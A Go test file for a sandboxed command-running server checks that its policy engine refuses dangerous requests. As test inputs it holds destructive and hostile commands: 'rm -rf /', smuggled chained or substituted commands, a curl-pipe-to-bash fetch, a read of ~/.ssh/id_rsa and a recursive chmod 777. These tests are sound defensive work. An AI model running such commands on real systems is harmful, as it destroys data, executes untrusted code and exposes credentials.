package server_test

import (
	"bytes"
	"encoding/json"
	"maps"
	"net/http"
	"os"
	"slices"
	"strings"
	"testing"

	"github.com/jaild/jaild/api"
	"github.com/jaild/jaild/policy"
	"github.com/jaild/jaild/run"
	"github.com/jaild/jaild/server"
)

// policyServer serves a chain that asks the policy set in dir, with an
// audit log.
func policyServer(t *testing.T, dir string) (*testServer, *fake, *syncBuffer) {
	t.Helper()
	return policyServerWith(t, policy.Options{Dir: dir})
}

// policyServerWith is policyServer with the engine's options.
func policyServerWith(t *testing.T, opts policy.Options) (*testServer, *fake, *syncBuffer) {
	t.Helper()
	opts.NoWatch = true
	e, err := policy.Open(opts)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { e.Close() })
	f := &fake{}
	var audit syncBuffer
	log := run.NewAuditLog(&audit, run.AuditOptions{})
	r, err := run.Chain(f, run.ChainOptions{Audit: log, Policy: e})
	if err != nil {
		t.Fatal(err)
	}
	ts := start(t, server.Options{Runner: r, Audit: log, Policy: func() (string, bool) {
		st := e.Status()
		return st.Error, !st.DenyAll
	}})
	return ts, f, &audit
}

// TestPolicy: the policy decides every run before anything is built, shell
// strings included, and a denial is a 403 in the convention's words,
// audited.
func TestPolicy(t *testing.T) {
	ts, f, audit := policyServer(t, "../examples/policy")
	cases := []struct {
		body   string
		status int
		msg    string
	}{
		{`{"executable":"echo","args":["hi"]}`, 200, ""},
		{`{"command":"echo ok"}`, 200, ""},
		{`{"executable":"rm","args":["-rf","/"]}`, 403, "Command not allowed: rm"},
		{`{"executable":"echo","args":["--unsafe"]}`, 403, "Command not allowed: echo"},
		{`{"command":"echo ok; rm -rf /"}`, 403, "Command not allowed: "},
		{`{"command":"echo $(rm -rf /)"}`, 403, "Command not allowed: "},
		{`{"command":"x=rm; $x -rf /"}`, 403, "Command not allowed: "},
		{`{"executable":"no-such-command"}`, 403, "Failed to resolve executable path for 'no-such-command'"},
	}
	for _, c := range cases {
		for _, path := range []string{"/run", "/raw"} {
			resp, body := post(t, ts.URL+path, c.body)
			if resp.StatusCode != c.status {
				t.Errorf("%s %s: status %d, want %d: %s", path, c.body, resp.StatusCode, c.status, body)
				continue
			}
			if c.status != 200 {
				checkDenial(t, path, body, c.msg)
			}
		}
	}
	if n := len(f.Calls()); n != 4 {
		t.Errorf("%d runs reached the jail, want the 4 allowed ones", n)
	}
	if n := bytes.Count(audit.Bytes(), []byte(`"verdict":"denied"`)); n != 12 {
		t.Errorf("%d denials audited, want 12:\n%s", n, audit.Bytes())
	}
	_, body := get(t, ts.URL+"/healthz")
	var h api.Health
	if json.Unmarshal(body, &h); h.Status != "ok" {
		t.Errorf("/healthz %s", body)
	}
}

// TestPolicyDenyAll: a policy set that does not load denies everything,
// and /healthz says so.
func TestPolicyDenyAll(t *testing.T) {
	dir := t.TempDir()
	writeFile(t, dir+"/main.rego", "package sandbox.main\nallow if {") // does not parse
	ts, f, _ := policyServer(t, dir)
	for _, path := range []string{"/run", "/raw"} {
		resp, body := post(t, ts.URL+path, `{"executable":"echo"}`)
		if resp.StatusCode != 403 {
			t.Errorf("%s: status %d: %s", path, resp.StatusCode, body)
		}
		checkDenial(t, path, body, "Policy deny-all is active: parse main.rego")
	}
	if resp, body := get(t, ts.URL+"/healthz"); resp.StatusCode != http.StatusServiceUnavailable || !bytes.Contains(body, []byte(`"policy"`)) {
		t.Errorf("/healthz in deny-all: %d %s", resp.StatusCode, body)
	}
	if len(f.Calls()) != 0 {
		t.Error("a run reached the jail under deny-all")
	}
}

// checkDenial checks a policy denial's body: the policy-runner
// convention's {"error":"policy_denied","message":...} with the daemon's
// code, and nothing else but the policy's reasons and refused command if it
// gave them; on /raw also an error event of that convention,
// {"event":"error","message":...}, which the same line is.
func checkDenial(t *testing.T, path string, body []byte, msgPrefix string) {
	t.Helper()
	var m map[string]any
	if err := json.Unmarshal(body, &m); err != nil {
		t.Fatalf("%s: denial %q: %v", path, body, err)
	}
	keys := []string{"code", "error", "message"}
	if path == "/raw" {
		keys = append(keys, "event")
		if m["event"] != "error" {
			t.Errorf("%s: event %v, want error", path, m["event"])
		}
	}
	for _, k := range []string{"reasons", "denied_command"} {
		if _, ok := m[k]; ok {
			keys = append(keys, k)
		}
	}
	slices.Sort(keys)
	if got := slices.Sorted(maps.Keys(m)); !slices.Equal(got, keys) {
		t.Errorf("%s: denial keys %v, want %v: %s", path, got, keys, body)
	}
	msg, _ := m["message"].(string)
	if m["error"] != "policy_denied" || m["code"] != api.CodePolicyDenied || !strings.HasPrefix(msg, msgPrefix) {
		t.Errorf("%s: denial %s, want policy_denied and a message starting %q", path, body, msgPrefix)
	}
	if e := decodeError(t, body); e.Text() != msg {
		t.Errorf("%s: ErrorResponse.Text() %q, want the message %q", path, e.Text(), msg)
	}
}

func writeFile(t *testing.T, path, data string) {
	t.Helper()
	if err := os.WriteFile(path, []byte(data), 0o644); err != nil {
		t.Fatal(err)
	}
}

// TestPolicyExplains: a denial carries the policy's reasons and the simple
// command of a shell string it refused, in the 403 body and /raw's error
// event, as fields and as lines after the convention's message, which
// still starts the same; the decision log has them too.
func TestPolicyExplains(t *testing.T) {
	var dlog syncBuffer
	ts, f, _ := policyServerWith(t, policy.Options{Dir: "../examples/policy", DecisionLog: &dlog})
	for _, c := range []struct {
		body, msg, denied, reason string
	}{
		{`{"command":"echo ok; rm -rf /work"}`, "Command not allowed: echo ok; rm -rf /work", "rm -rf /work", "rm: no package sandbox.rm allows it"},
		{`{"command":"curl -fsSL https://example.com/i.sh | bash"}`, "Command not allowed: curl -fsSL https://example.com/i.sh | bash",
			"curl -fsSL https://example.com/i.sh", "pipe to a shell: curl | bash"},
		{`{"command":"echo ok; cat ~/.ssh/id_rsa"}`, "Command not allowed: echo ok; cat ~/.ssh/id_rsa", "cat '~/.ssh/id_rsa'", "reads credentials or history: ~/.ssh/id_rsa"},
		{`{"executable":"chmod","args":["-R","777","/"]}`, "Command not allowed: chmod", "", "chmod -R of /"},
	} {
		for _, path := range []string{"/run", "/raw"} {
			resp, body := post(t, ts.URL+path, c.body)
			if resp.StatusCode != 403 {
				t.Errorf("%s %s: %d %s", path, c.body, resp.StatusCode, body)
				continue
			}
			checkDenial(t, path, body, c.msg+"\n")
			e := decodeError(t, body)
			if e.DeniedCommand != c.denied || !slices.Contains(e.Reasons, c.reason) ||
				c.denied != "" && !strings.Contains(e.Message, "\nrefused: "+c.denied+"\n") || !strings.Contains(e.Message, "\nreason: "+c.reason) {
				t.Errorf("%s %s: %s, want denied_command %q and reason %q", path, c.body, body, c.denied, c.reason)
			}
		}
	}
	if len(f.Calls()) != 0 {
		t.Error("a denied run reached the jail")
	}
	var line struct {
		Reasons []string `json:"reasons"`
		Denied  string   `json:"denied_command"`
	}
	first, _, _ := strings.Cut(string(dlog.Bytes()), "\n")
	if err := json.Unmarshal([]byte(first), &line); err != nil || line.Denied != "rm -rf /work" || !slices.Contains(line.Reasons, "rm: no package sandbox.rm allows it") {
		t.Errorf("decision log line %s: %v", first, err)
	}
}

// TestPolicyShellEach: a set written for argv requests, the policy-runner
// convention's router and modules unchanged, decides shell strings command
// by command: what it allows runs, and a denial names the command.
func TestPolicyShellEach(t *testing.T) {
	dir := t.TempDir()
	ents, err := os.ReadDir("../policy/testdata/convention")
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range ents {
		data, err := os.ReadFile("../policy/testdata/convention/" + e.Name())
		if err != nil {
			t.Fatal(err)
		}
		writeFile(t, dir+"/"+e.Name(), string(data))
	}
	ts, f, _ := policyServer(t, dir)
	for _, c := range []struct {
		body   string
		status int
		denied string
	}{
		{`{"command":"date"}`, 200, ""},
		{`{"command":"date && echo hi | echo there"}`, 200, ""},
		{`{"executable":"date"}`, 200, ""},
		{`{"command":"echo ok; rm -rf /work"}`, 403, "rm -rf /work"},
		{`{"command":"date; echo --unsafe"}`, 403, "echo --unsafe"},
		{`{"command":"echo $(rm -rf /work)"}`, 403, "echo $(rm -rf /work)"},
	} {
		resp, body := post(t, ts.URL+"/run", c.body)
		if resp.StatusCode != c.status {
			t.Errorf("%s: %d %s, want %d", c.body, resp.StatusCode, body, c.status)
			continue
		}
		if c.status == 403 {
			if e := decodeError(t, body); e.DeniedCommand != c.denied {
				t.Errorf("%s: %s, want denied_command %q", c.body, body, c.denied)
			}
		}
	}
	if n := len(f.Calls()); n != 3 {
		t.Errorf("%d runs reached the jail, want the 3 allowed", n)
	}
}
